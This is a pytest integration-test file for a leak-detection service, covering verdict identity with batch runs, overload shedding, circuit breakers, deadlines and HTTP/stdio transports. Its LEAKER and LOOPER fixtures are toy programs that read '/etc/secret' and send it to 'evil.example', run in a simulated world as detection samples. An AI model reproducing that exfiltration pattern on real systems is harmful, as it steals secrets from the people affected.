"""Integration tests for the causality service.

The load-bearing invariant: a verdict served by the daemon is
byte-identical to the batch path (``run_dual`` with the same program,
input, mutation, faults and budget) — admission control, deadlines,
breakers and transports add latency and explicit degradation, never
verdict changes.
"""

import contextlib
import http.client
import io
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.request

import pytest

from repro.core import config_from_spec, run_dual
from repro.core.supervisor import RunBudget
from repro.serve import (
    HttpTransport,
    LdxService,
    ServeConfig,
    StdioTransport,
    api,
)
from repro.serve import service as service_module
from repro.serve import transport as transport_module
from repro.serve.admission import ShedReason
from repro.serve.service import _world_from_spec
from repro.workloads import get_workload

LOOPER = """
fn main() {
  var i = 0;
  var sum = 0;
  while (i < 1000000) {
    sum = sum + i;
    i = i + 1;
  }
  var fd = open("/etc/secret", "r");
  var secret = read(fd, 16);
  var sock = socket();
  connect(sock, "evil.example", 80);
  send(sock, secret);
  return 0;
}
"""

LEAKER = """
fn main() {
  var fd = open("/etc/secret", "r");
  var secret = read(fd, 64);
  var sock = socket();
  connect(sock, "evil.example", 80);
  send(sock, secret);
  return 0;
}
"""


def _service(**overrides) -> LdxService:
    settings = dict(workers=2, log_stream=io.StringIO())
    settings.update(overrides)
    return LdxService(ServeConfig(**settings))


def _source_request(request_id="s1", **overrides):
    payload = {
        "id": request_id,
        "source": LEAKER,
        "world": {
            "files": {"/etc/secret": "hunter2"},
            "endpoints": {"evil.example:80": "ok"},
        },
        "sources": {"files": ["/etc/secret"]},
        "sinks": "network",
    }
    payload.update(overrides)
    return payload


def _canonical(result) -> str:
    return json.dumps(api.verdict_payload(result), sort_keys=True)


def _until(predicate, timeout=60.0):
    deadline = time.monotonic() + timeout
    while not predicate():
        assert time.monotonic() < deadline, "condition never held"
        time.sleep(0.001)


def _hold(service, held_id="hold"):
    """Make the request *held_id* wait at the top of ``_serve`` until
    released; (entered, release) events."""
    entered, release = threading.Event(), threading.Event()
    real_serve = service._serve

    def serve(request, *args):
        if request.id == held_id:
            entered.set()
            assert release.wait(60)
        return real_serve(request, *args)

    service._serve = serve
    return entered, release


def _submit_async(service, payload):
    """Submit on a thread of its own; call the result to join it and get
    the response."""
    box = []
    thread = threading.Thread(target=lambda: box.append(service.submit(payload)),
                              daemon=True)
    thread.start()

    def finish():
        thread.join(timeout=120)
        assert box, "request never answered"
        return box[0]

    return finish


# -- verdict identity ----------------------------------------------------------


def test_workload_verdicts_identical_to_batch():
    service = _service().start()
    try:
        for variant, config_of in (
            ("leak", lambda w: w.leak_variant()),
            ("table3", lambda w: w.table3_variant()),
        ):
            response = service.submit(
                {"id": variant, "workload": "gzip", "variant": variant}
            )
            assert response["status"] == "ok"
            workload = get_workload("gzip")
            batch = run_dual(
                workload.instrumented, workload.build_world(1), config_of(workload)
            )
            assert (
                json.dumps(response["verdict"], sort_keys=True) == _canonical(batch)
            )
    finally:
        assert service.drain(timeout=120)


def test_source_request_verdict_identical_to_batch():
    service = _service().start()
    try:
        response = service.submit(_source_request())
        assert response["status"] == "ok"
        assert response["verdict"]["causality"] is True

        request = api.parse_request(_source_request())
        from repro.cache import instrumented_for

        batch = run_dual(
            instrumented_for(LEAKER),
            _world_from_spec(request.world_spec),
            config_from_spec(request.sources_spec, request.sinks_spec, None),
            **RunBudget.from_deadline(request.deadline).engine_kwargs(),
        )
        assert json.dumps(response["verdict"], sort_keys=True) == _canonical(batch)
    finally:
        assert service.drain(timeout=120)


def test_repeat_requests_hit_the_warm_factory():
    service = _service().start()
    try:
        first = service.submit(_source_request("a"))
        second = service.submit(_source_request("b"))
        assert first["cache"]["factory"] == "miss"
        assert second["cache"]["factory"] == "hit"
        assert second["verdict"] == first["verdict"]
    finally:
        assert service.drain(timeout=120)


# -- robustness ----------------------------------------------------------------


def test_overload_sheds_explicitly_and_backlog_still_drains():
    # One slot, held: later requests wait, so the backlog fills
    # deterministically.
    service = _service(workers=1, queue_capacity=4)
    entered, release = _hold(service)
    backlog = [_submit_async(service, {"id": "hold", "workload": "gzip",
                                       "variant": "leak"})]
    assert entered.wait(60)
    for index in range(3):
        backlog.append(_submit_async(
            service, {"id": f"q{index}", "workload": "tnftp", "variant": "leak"}
        ))
        _until(lambda: service.queue.depth == index + 1)
    # Cold requests shed from the watermark, 3/4 of capacity.
    for index in (3, 4):
        response = service.submit(
            {"id": f"q{index}", "workload": "tnftp", "variant": "leak"}
        )
        assert response["status"] == api.STATUS_OVERLOADED
        assert response["reason"] == ShedReason.WATERMARK_COLD
    # Drain with the backlog still waiting: it completes with verdicts.
    service.begin_drain()
    release.set()
    assert service.drain(timeout=120)
    responses = [finish() for finish in backlog]
    assert [r["id"] for r in responses] == ["hold", "q0", "q1", "q2"]
    assert all(r["status"] == "ok" for r in responses)


def test_one_worker_serves_in_arrival_order():
    # The slot is held while a1, b, a2 arrive; the served order is the
    # log's order of request records.
    log = io.StringIO()
    service = _service(workers=1, log_stream=log)
    entered, release = _hold(service)
    pending = [_submit_async(service, {"id": "hold", "workload": "gzip",
                                       "variant": "leak"})]
    assert entered.wait(60)
    for request_id, workload in (("a1", "gzip"), ("b", "tnftp"), ("a2", "gzip")):
        depth = service.queue.depth
        pending.append(_submit_async(
            service, {"id": request_id, "workload": workload, "variant": "leak"}
        ))
        _until(lambda: service.queue.depth == depth + 1)
    release.set()
    assert service.drain(timeout=120)
    for finish in pending:
        assert finish()["status"] == "ok"
    records = [json.loads(line) for line in log.getvalue().splitlines()]
    served = [r["id"] for r in records if r["event"] == "request"]
    assert served == ["hold", "a1", "b", "a2"]


def test_tiny_deadline_degrades_to_partial_never_hangs():
    service = _service().start()
    try:
        response = service.submit(
            _source_request("tiny", source=LOOPER, deadline=10.0)
        )
        assert response is not None, "tiny-deadline request hung"
        assert response["status"] == "ok"
        degradation = response["degradation"]
        assert degradation["confidence"] == "partial"
        assert degradation["budget_exhausted"]
        # The diagnosis is in the verdict too: both sides were cut off.
        assert any(
            "instruction budget exceeded" in crash[1]
            for crash in response["verdict"]["crashes"]
        )
    finally:
        assert service.drain(timeout=120)


def test_client_deadlines_are_capped(monkeypatch):
    from repro.serve import service as service_module

    deadlines = []

    class RecordingBudget:
        @staticmethod
        def from_deadline(deadline):
            deadlines.append(deadline)
            return RunBudget.from_deadline(deadline)

    monkeypatch.setattr(service_module, "RunBudget", RecordingBudget)
    service = _service().start()
    try:
        for deadline in (1e12, 1000.0):
            response = service.submit(
                {"id": "d", "workload": "tnftp", "variant": "leak",
                 "deadline": deadline}
            )
            assert response["status"] == "ok"
    finally:
        assert service.drain(timeout=120)
    assert deadlines == [service_module.MAX_DEADLINE, 1000.0]


def test_breaker_opens_after_repeated_engine_failures_and_recovers(monkeypatch):
    from repro.serve.breaker import COOLDOWN_S, FAILURE_THRESHOLD, BreakerBoard

    class FakeClock:
        now = 0.0

        def __call__(self):
            return self.now

    clock = FakeClock()
    service = _service().start()
    service.breakers = BreakerBoard(clock)
    try:
        original = service_module.run_request
        state = {"explode": True}

        def flaky(request, factories=None):
            if state["explode"]:
                raise RuntimeError("synthetic engine failure")
            return original(request, factories)

        monkeypatch.setattr(service_module, "run_request", flaky)
        payload = {"id": "x", "workload": "gzip", "variant": "leak"}
        for index in range(FAILURE_THRESHOLD):
            response = service.submit(dict(payload, id=f"x{index}"))
            assert response["status"] == api.STATUS_ERROR
        # Breaker open: fast-fail without touching the engine.
        response = service.submit(dict(payload, id="open"))
        assert response["status"] == api.STATUS_UNAVAILABLE
        assert "circuit open" in response["reason"]
        assert response["retry_after"] == COOLDOWN_S
        # After the cooldown the next request is the half-open probe;
        # the engine is healthy again, so the breaker closes.
        state["explode"] = False
        clock.now = COOLDOWN_S
        response = service.submit(dict(payload, id="probe"))
        assert response["status"] == "ok"
        response = service.submit(dict(payload, id="after"))
        assert response["status"] == "ok"
        # Closed with no failures again: the breaker is forgotten.
        assert service.stats()["breakers"] == {}
    finally:
        assert service.drain(timeout=120)


@pytest.mark.parametrize(
    "payload",
    [{"workload": "nosuch"},
     {"workload": "gzip", "variant": "noleak"},
     _source_request(world={"endpoints": {"hostonly": "ok"}})],
    ids=["unknown-workload", "missing-variant", "bad-endpoint"],
)
def test_unrunnable_requests_are_invalid_before_admission(payload):
    # These used to be admitted: an unknown workload answered `error`
    # and three of them opened its breaker; the other two held a slot
    # before coming back `invalid`, and a bad endpoint missed the
    # factory cache.
    service = _service().start()
    try:
        for index in range(4):
            response = service.submit(dict(payload, id=f"bad-{index}"))
            assert response["status"] == api.STATUS_INVALID, response
        stats = service.stats()
        assert (stats["served"], stats["rejected"], stats["errors"]) == (0, 4, 0)
        assert stats["breakers"] == {}
        assert stats["factories"]["misses"] == 0
    finally:
        assert service.drain(timeout=120)


def test_never_seen_sources_that_succeed_leave_no_breakers():
    service = _service().start()
    try:
        for index in range(40):
            response = service.submit(_source_request(
                f"n{index}", source=LEAKER.replace("64", str(index + 1))
            ))
            assert response["status"] == "ok"
        assert service.stats()["breakers"] == {}
    finally:
        assert service.drain(timeout=120)


@pytest.mark.parametrize("world", [{"seed": "x"}, {"stdin": 5}],
                         ids=["seed-str", "stdin-int"])
def test_malformed_world_values_are_invalid_before_engine_work(world):
    service = _service().start()
    try:
        response = service.submit(_source_request("w", world=world))
        assert response["status"] == api.STATUS_INVALID
        stats = service.stats()
        assert (stats["served"], stats["errors"], stats["rejected"]) == (0, 0, 1)
        assert stats["factories"]["misses"] == 0
        assert stats["breakers"] == {}
    finally:
        assert service.drain(timeout=120)


def test_unlexable_digit_is_invalid_not_an_engine_error():
    # "²" passes str.isdigit() but not int(): the lexer must diagnose
    # it, so the request is a bad program (invalid), not a service
    # error that counts against the program's breaker.
    service = _service().start()
    try:
        response = service.submit(_source_request(
            "sup", source="fn main() { var x = \u00b2; return x; }"
        ))
        assert response["status"] == api.STATUS_INVALID
        assert "lex error" in response["reason"]
        stats = service.stats()
        assert stats["errors"] == 0
        assert stats["breakers"] == {}
    finally:
        assert service.drain(timeout=120)


def test_drain_stops_admission_and_joins_workers():
    service = _service().start()
    response = service.submit({"id": "a", "workload": "tnftp", "variant": "leak"})
    assert response["status"] == "ok"
    service.begin_drain()
    late = service.submit({"id": "late", "workload": "tnftp", "variant": "leak"})
    assert late["status"] == api.STATUS_OVERLOADED
    assert "draining" in late["reason"]
    assert service.drain(timeout=120)
    assert not service.alive()
    assert not service.ready()


# -- transports ----------------------------------------------------------------


def test_stdio_transport_roundtrip_in_request_order():
    lines = [
        json.dumps({"id": "a", "workload": "gzip", "variant": "leak"}),
        "not json at all",
        # A nesting bomb used to escape validation and end the input.
        "[" * 100000,
        json.dumps({"id": "c", "workload": "gzip", "variant": "leak"}),
    ]
    out = io.StringIO()
    transport = StdioTransport(
        _service(), in_stream=io.StringIO("\n".join(lines) + "\n"), out_stream=out
    )
    assert transport.serve_forever(handle_signals=False) == 0
    responses = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [r["id"] for r in responses] == ["a", None, None, "c"]
    assert responses[0]["status"] == "ok"
    assert responses[1]["status"] == api.STATUS_INVALID
    assert responses[2]["status"] == api.STATUS_INVALID
    assert responses[3]["verdict"] == responses[0]["verdict"]


def test_stdio_reader_failure_is_logged_then_ends_input():
    log = io.StringIO()
    out = io.StringIO()

    def torn_stdin():
        # A read failure after the first line, as a broken pipe or a
        # decode error on a real stdin would raise.
        yield json.dumps({"id": "a", "workload": "gzip", "variant": "leak"})
        raise OSError("stream torn")

    transport = StdioTransport(
        _service(log_stream=log), in_stream=torn_stdin(), out_stream=out
    )
    assert transport.serve_forever(handle_signals=False) == 0
    assert [json.loads(line)["id"] for line in out.getvalue().splitlines()] == ["a"]
    records = [json.loads(line) for line in log.getvalue().splitlines()]
    errors = [r for r in records if r["event"] == "reader-error"]
    assert errors == [{"event": "reader-error", "error": "OSError: stream torn"}]


@contextlib.contextmanager
def _http_daemon(service):
    """An HTTP transport serving *service* on an ephemeral port; stops
    and drains it on exit, and checks that it exits 0."""
    transport = HttpTransport(service, port=0)
    codes = []
    thread = threading.Thread(
        target=lambda: codes.append(transport.serve_forever(
            handle_signals=False, announce_stream=io.StringIO()
        )),
        daemon=True,
    )
    thread.start()
    try:
        yield transport
    finally:
        transport.request_stop()
        thread.join(timeout=60)
        assert not thread.is_alive()
        assert codes == [0]
        assert not service.alive()  # drained


def _json_reply(connection, method, path, body=None, headers=None):
    """One request on *connection*; (status, response, parsed body).  The
    reply must frame itself: ``Content-Length`` equals the body read."""
    connection.request(method, path, body=body, headers=headers or {})
    reply = connection.getresponse()
    raw = reply.read()
    assert int(reply.getheader("Content-Length")) == len(raw)
    return reply.status, reply, json.loads(raw)


def test_http_transport_roundtrip_and_probes():
    service = _service()
    with _http_daemon(service) as transport:
        base = f"http://127.0.0.1:{transport.port}"
        with urllib.request.urlopen(base + "/healthz", timeout=10) as reply:
            assert json.loads(reply.read())["alive"] is True
        with urllib.request.urlopen(base + "/readyz", timeout=10) as reply:
            assert json.loads(reply.read())["ready"] is True
        request = urllib.request.Request(
            base + "/v1/infer",
            data=json.dumps(
                {"id": "h", "workload": "gzip", "variant": "leak"}
            ).encode(),
        )
        with urllib.request.urlopen(request, timeout=120) as reply:
            assert reply.status == 200
            payload = json.loads(reply.read())
        assert payload["status"] == "ok"
        assert payload["verdict"]["causality"] is True
        # Invalid requests → HTTP 400 with a diagnosis.  Invalid UTF-8
        # and a nesting bomb used to drop the connection instead.
        for body in (b"{nope", b'{"id": "\xff"}', b"[" * 100000):
            bad = urllib.request.Request(base + "/v1/infer", data=body)
            with pytest.raises(urllib.error.HTTPError) as failure:
                urllib.request.urlopen(bad, timeout=30)
            assert failure.value.code == 400
            assert json.loads(failure.value.read())["status"] == api.STATUS_INVALID
        with urllib.request.urlopen(base + "/statz", timeout=10) as reply:
            stats = json.loads(reply.read())
        # The invalid requests were rejected at admission, not served.
        assert stats["served"] == 1
        assert stats["errors"] == 0


def test_http_connections_disable_nagle(monkeypatch):
    """Every accepted connection has TCP_NODELAY set, so a reply's
    second write leaves at once instead of waiting for the client's
    delayed ACK."""
    nodelay = []
    real_setup = transport_module._Handler.setup

    def recording_setup(handler):
        real_setup(handler)
        nodelay.append(handler.connection.getsockopt(
            socket.IPPROTO_TCP, socket.TCP_NODELAY
        ))

    monkeypatch.setattr(transport_module._Handler, "setup", recording_setup)
    with _http_daemon(_service()) as transport:
        for _ in range(2):
            connection = http.client.HTTPConnection(
                "127.0.0.1", transport.port, timeout=30
            )
            try:
                assert _json_reply(connection, "GET", "/healthz")[0] == 200
            finally:
                connection.close()
    assert len(nodelay) == 2
    assert all(nodelay)


def test_keep_alive_connection_serves_back_to_back_requests_in_order():
    requests = [
        {"id": f"r{i}", "workload": workload, "variant": "leak"}
        for i, workload in enumerate(("gzip", "tnftp") * 25)
    ]
    batch = {}
    for workload in ("gzip", "tnftp"):
        program = get_workload(workload)
        batch[workload] = _canonical(run_dual(
            program.instrumented, program.build_world(1),
            program.leak_variant(),
        ))
    with _http_daemon(_service()) as transport:
        connection = http.client.HTTPConnection(
            "127.0.0.1", transport.port, timeout=120
        )
        try:
            replies = []
            for request in requests:
                replies.append(_json_reply(
                    connection, "POST", "/v1/infer", json.dumps(request)
                ))
                if len(replies) == 1:
                    sock = connection.sock
            assert connection.sock is sock  # one connection throughout
        finally:
            connection.close()
    assert [payload["id"] for _, _, payload in replies] == [
        request["id"] for request in requests
    ]
    for (status, _, payload), request in zip(replies, requests):
        assert status == 200
        assert payload["status"] == "ok"
        assert json.dumps(payload["verdict"], sort_keys=True) == (
            batch[request["workload"]]
        )


def test_probes_and_rejections_frame_replies_on_a_reused_connection():
    service = _service()
    with _http_daemon(service) as transport:
        connection = http.client.HTTPConnection(
            "127.0.0.1", transport.port, timeout=60
        )
        try:
            status, _, payload = _json_reply(connection, "GET", "/healthz")
            assert (status, payload) == (200, {"alive": True})
            sock = connection.sock
            status, _, payload = _json_reply(connection, "GET", "/statz")
            assert status == 200
            assert payload["served"] == 0
            assert payload["queue"]["capacity"] == service.queue.capacity
            # A declared body over the cap is refused before it is read.
            status, _, payload = _json_reply(
                connection, "POST", "/v1/infer",
                headers={"Content-Length": str(transport_module.MAX_BODY_BYTES + 1)},
            )
            assert status == 413
            assert payload["status"] == api.STATUS_INVALID
            # Draining: a late arrival is shed with 429 and Retry-After.
            service.begin_drain()
            status, reply, payload = _json_reply(
                connection, "POST", "/v1/infer",
                json.dumps({"id": "late", "workload": "gzip", "variant": "leak"}),
            )
            assert status == 429
            assert payload["status"] == api.STATUS_OVERLOADED
            assert payload["id"] == "late"
            assert reply.getheader("Retry-After") == str(payload["retry_after"])
            status, _, payload = _json_reply(connection, "GET", "/healthz")
            assert (status, payload) == (200, {"alive": True})
            assert connection.sock is sock  # one connection throughout
        finally:
            connection.close()


def test_stdio_stop_mid_request_writes_the_response_then_exits_zero():
    service = _service()
    entered, release = _hold(service)
    read_fd, write_fd = os.pipe()
    with os.fdopen(read_fd) as in_stream, os.fdopen(write_fd, "w") as feed:
        # Input stays open: only the stop request ends serving.
        feed.write(json.dumps({"id": "hold", "workload": "gzip",
                               "variant": "leak"}) + "\n")
        feed.flush()
        out = io.StringIO()
        transport = StdioTransport(service, in_stream=in_stream, out_stream=out)
        codes = []
        thread = threading.Thread(
            target=lambda: codes.append(
                transport.serve_forever(handle_signals=False)
            ),
            daemon=True,
        )
        thread.start()
        assert entered.wait(60)
        transport.request_stop()
        release.set()
        thread.join(timeout=120)
        assert codes == [0]
        responses = [json.loads(line) for line in out.getvalue().splitlines()]
        assert [(r["id"], r["status"]) for r in responses] == [("hold", "ok")]
        assert not service.alive()
        feed.close()  # EOF lets the abandoned reader end
        _until(lambda: not [t for t in threading.enumerate()
                            if t.name == "ldx-serve-stdin"])


def test_http_stop_mid_request_answers_200_then_exits_zero():
    service = _service()
    entered, release = _hold(service)
    with _http_daemon(service) as transport:
        connection = http.client.HTTPConnection(
            "127.0.0.1", transport.port, timeout=120
        )
        replies = []
        client = threading.Thread(target=lambda: replies.append(_json_reply(
            connection, "POST", "/v1/infer",
            json.dumps({"id": "hold", "workload": "gzip", "variant": "leak"}),
        )), daemon=True)
        client.start()
        try:
            assert entered.wait(60)
            transport.request_stop()
            release.set()
            client.join(timeout=120)
        finally:
            connection.close()
    # Leaving the block joined serve_forever and checked it returned 0.
    [(status, _, payload)] = replies
    assert (status, payload["id"], payload["status"]) == (200, "hold", "ok")


def test_sigterm_drains_stdio_daemon_to_exit_zero(tmp_path):
    env = dict(os.environ)
    env["PYTHONPATH"] = os.path.join(os.path.dirname(__file__), "..", "..", "src")
    process = subprocess.Popen(
        [sys.executable, "-m", "repro", "serve", "--workers", "1"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        env=env,
        text=True,
        cwd=str(tmp_path),
    )
    try:
        process.stdin.write(
            json.dumps({"id": "a", "workload": "tnftp", "variant": "leak"}) + "\n"
        )
        process.stdin.flush()
        response = json.loads(process.stdout.readline())
        assert response["status"] == "ok"
        process.send_signal(signal.SIGTERM)
        assert process.wait(timeout=120) == 0
    finally:
        if process.poll() is None:
            process.kill()


def test_sigterm_drains_http_daemon_to_exit_zero(tmp_path):
    env = dict(os.environ)
    env["PYTHONPATH"] = os.path.join(os.path.dirname(__file__), "..", "..", "src")
    process = subprocess.Popen(
        [sys.executable, "-m", "repro", "serve", "--http", "0", "--workers", "1"],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        env=env,
        text=True,
        cwd=str(tmp_path),
    )
    try:
        announce = json.loads(process.stdout.readline())
        assert announce["event"] == "listening"
        connection = http.client.HTTPConnection(
            "127.0.0.1", announce["port"], timeout=120
        )
        try:
            status, _, payload = _json_reply(
                connection, "POST", "/v1/infer",
                json.dumps({"id": "a", "workload": "tnftp", "variant": "leak"}),
            )
        finally:
            connection.close()
        assert (status, payload["status"]) == (200, "ok")
        process.send_signal(signal.SIGTERM)
        assert process.wait(timeout=120) == 0
    finally:
        if process.poll() is None:
            process.kill()
        process.stdout.close()
